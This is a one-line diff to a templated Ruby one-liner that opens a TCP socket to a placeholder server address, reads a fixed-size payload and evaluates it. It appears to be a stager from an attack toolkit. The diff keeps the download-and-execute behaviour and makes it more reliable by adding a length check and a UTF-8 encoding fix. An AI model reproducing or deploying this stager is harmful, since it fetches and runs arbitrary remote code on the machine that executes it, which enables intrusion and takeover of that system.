@@ -1 +1 @@
-ruby -e 'require "socket"; s = TCPSocket.open("{{SERVER_IP}}", {{SERVER_PORT}}); data = ""; for i in 1..{{PAYLOAD_SIZE}} do data += s.recv(1); end; s.close; eval(data);'
+ruby -e 'require "socket"; s = TCPSocket.open("{{SERVER_IP}}", {{SERVER_PORT}}); data = s.read({{PAYLOAD_SIZE}}).to_s; s.close; abort("Incomplete payload") if data.bytesize != {{PAYLOAD_SIZE}}; eval(data.force_encoding("UTF-8"));'